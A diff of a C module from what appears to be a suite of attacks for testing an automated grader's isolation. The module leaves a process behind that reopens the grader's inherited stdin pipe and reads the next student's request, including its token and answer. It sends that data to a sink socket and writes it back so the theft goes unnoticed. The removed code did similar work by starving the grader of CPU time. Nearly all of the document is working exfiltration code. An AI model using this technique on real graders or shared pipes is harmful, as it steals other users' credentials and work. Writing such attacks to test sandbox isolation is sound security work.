@@ -2,19 +2,20 @@
 /*
  * Goal:  the next student's request, with the token and the answer in it.
  * Means: standard input. A grader that talks to its shim over stdin and stdout, and starts students
- *        with its stdin, gives each of them the stream of requests. A process that is left behind waits
- *        on it while the grader is busy with a request that nobody but the attacker has made: an
- *        inherited pipe can be opened again for writing.
+ *        with its stdin, gives each of them the stream of requests. A process that is left behind reads
+ *        it while the grader is busy with a request that nobody but the attacker has made: an inherited
+ *        pipe can be opened again for writing. What was read is put back, and nobody misses it.
  *
- *     attacker --"run sleep"--> [ pipe ] --> grader: runs sleep for 300 ms
+ *     attacker --"run sleep"--> [ pipe ] --> grader: runs sleep for 200 ms
  *     shim -----"run student"-> [ pipe ] --> thief ---> 127.0.0.1
+ *     thief ----"run student"-> [ pipe ] --> grader
  */
 #include "attacks/attack.h"
 
 #include <errno.h>
 #include <fcntl.h>
-#include <sched.h>
 #include <stdio.h>
+#include <stdlib.h>
 #include <string.h>
 #include <sys/ioctl.h>
 #include <sys/socket.h>
@@ -24,61 +25,66 @@
 
 #define BUFFER   8192 /* what a buffered reader takes at once: a frame of that size is taken alone */
 #define PATIENCE 3    /* seconds */
+#define HEAD     "Content-Length: 8168\r\n\r\n"
 
-/* Make a request of our own, padded with blanks to the size of the reader's buffer. */
-static bool keep_busy(void)
+static const char busy[] = "{\"jsonrpc\": \"2.0\", \"id\": 0, \"method\": \"eval\", \"params\": "
+			   "[{\"response\": {\"argv\": [\"sleep\", \"0.2\"]}, "
+			   "\"answer\": \"\", \"params\": {}}]}";
+
+/* Make a request, padded with blanks to the size of the reader's buffer. */
+static bool put(int in, const char *body)
 {
-	static const char work[] = "{\"jsonrpc\": \"2.0\", \"id\": 0, \"method\": \"eval\", \"params\": "
-				   "[{\"response\": {\"argv\": [\"sleep\", \"0.3\"]}, "
-				   "\"answer\": \"\", \"params\": {}}]}";
-	static const char head[] = "Content-Length: 8168\r\n\r\n";
 	char frame[BUFFER + 1];
-	int in = open("/proc/self/fd/0", O_WRONLY | O_NONBLOCK | O_CLOEXEC);
-	ssize_t n;
 
-	snprintf(frame, sizeof(frame), "%s%-*s", head, BUFFER - (int)strlen(head), work);
-	n = in < 0 ? -1 : write(in, frame, BUFFER);
-	close(in);
-	return n == BUFFER;
+	snprintf(frame, sizeof(frame), HEAD "%-*s", BUFFER - (int)strlen(HEAD), body);
+	return write(in, frame, BUFFER) == BUFFER;
 }
 
-/* Where that is refused: be quicker than the grader, on its own processor. */
-static void go_first(pid_t grader)
+/* Wait until the grader has taken what is ours, then take a whole request. Its body, or NULL. */
+static const char *take(char *request, size_t size)
 {
-	const struct sched_param none = { 0 };
-	cpu_set_t here;
+	const struct timespec tick = { .tv_nsec = 1000000 };
+	const char *body = NULL;
+	int waiting = 0;
+	size_t n = 0;
+	ssize_t k;
 
-	CPU_ZERO(&here);
-	CPU_SET(sched_getcpu(), &here);
-	sched_setaffinity(0, sizeof(here), &here);
-	sched_setaffinity(grader, sizeof(here), &here);
-	sched_setscheduler(grader, SCHED_IDLE, &none);
+	while (!ioctl(STDIN_FILENO, FIONREAD, &waiting) && waiting >= BUFFER)
+		nanosleep(&tick, NULL);
+	while (!body || strlen(body) < strtoul(strchr(request, ':') + 1, NULL, 10)) {
+		k = read(STDIN_FILENO, request + n, size - 1 - n);
+		if (k <= 0)
+			return NULL;
+		request[n += (size_t)k] = '\0';
+		body = strstr(request, "\r\n\r\n");
+		body = body ? body + strlen("\r\n\r\n") : NULL;
+	}
+	return body;
 }
 
 /* The grader reads the student's output to its end, which is here; then its next request. */
-static _Noreturn void steal(int sink)
+static _Noreturn void steal(int in, int sink)
 {
-	const struct timespec tick = { .tv_nsec = 1000000 };
-	char request[65536];
-	int waiting = 0;
-	ssize_t n;
+	static char request[BUFFER];
+	const char *body;
 
 	setsid();
 	alarm(PATIENCE);
 	close(STDOUT_FILENO);
 	close(STDERR_FILENO);
-	while (!ioctl(STDIN_FILENO, FIONREAD, &waiting) && waiting >= BUFFER)
-		nanosleep(&tick, NULL); /* ours is still there */
-	while ((n = read(STDIN_FILENO, request, sizeof(request))) > 0)
-		send(sink, request, (size_t)n, MSG_NOSIGNAL);
+	while ((body = take(request, sizeof(request)))) {
+		send(sink, body, strlen(body), MSG_NOSIGNAL);
+		if (!put(in, body) || !put(in, busy))
+			break;
+	}
 	_exit(0);
 }
 
 static enum claim run(const struct brief *b)
 {
 	struct stat st;
+	int in, sink;
 	pid_t child;
-	int sink;
 
 	submit("0");
 	attempting(b);
@@ -88,13 +94,12 @@ static enum claim run(const struct brief *b)
 	if (fstat(STDIN_FILENO, &st) || !S_ISFIFO(st.st_mode))
 		return denied("standard input is no stream of requests");
 	sink = dial(SOCK_STREAM, b->sink);
-	if (sink < 0)
-		return denied("connect");
-	if (!keep_busy())
-		go_first(b->worker);
+	in = open("/proc/self/fd/0", O_WRONLY | O_CLOEXEC);
+	if (sink < 0 || in < 0 || !put(in, busy))
+		return denied("standard input");
 	child = fork();
 	if (!child)
-		steal(sink);
+		steal(in, sink);
 	return child < 0 ? denied("fork") : CLAIM_DONE;
 }
 
